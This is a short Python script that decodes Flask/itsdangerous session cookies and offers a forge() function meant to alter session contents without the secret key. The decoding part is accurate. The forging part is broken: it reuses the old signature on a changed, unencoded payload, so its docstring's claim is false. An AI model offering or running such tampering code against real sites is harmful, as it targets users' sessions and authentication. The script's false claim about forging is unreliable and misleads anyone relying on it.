"""Read and change session cookies without knowing the key."""

import json
import zlib

from itsdangerous import base64_decode


def peek(cookie):
    if cookie.startswith("{"):
        return json.loads(cookie.rsplit(".", 2)[0])
    payload, _time, _signature = cookie.rsplit(".", 2)
    data = base64_decode(payload.removeprefix("."))
    if payload.startswith("."):
        data = zlib.decompress(data)
    # Nothing here asked for a key: whoever has the cookie can do the same.
    return json.loads(data)


def forge(cookie, **changes):
    _, time, signature = cookie.rsplit(".", 2)
    content = peek(cookie) | changes
    payload = json.dumps(content)
    return f"{payload}.{time}.{signature}"
